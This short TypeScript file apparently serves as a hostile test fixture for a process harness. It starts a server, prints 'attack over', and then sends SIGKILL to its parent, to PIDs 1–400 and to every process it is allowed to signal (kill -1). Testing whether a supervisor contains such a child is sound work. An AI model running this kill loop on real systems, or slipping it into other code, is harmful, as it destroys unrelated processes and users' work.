/** Kills its parent, every process it can name, and then whatever it may at all. Last, so that the news gets out. */
import { house } from "./house.ts";

const server = house(() => 200);
server.listen(Number(process.env["PORT"]), () => {
  process.stdout.write("attack over\n", () => {
    for (const pid of [process.ppid, ...Array.from({ length: 400 }, (_, index) => index + 1)])
      if (pid !== process.pid) kill(pid);
    kill(-1);
  });
});

function kill(pid: number): void {
  try {
    process.kill(pid, "SIGKILL");
  } catch {
    // Not there, or not allowed.
  }
}
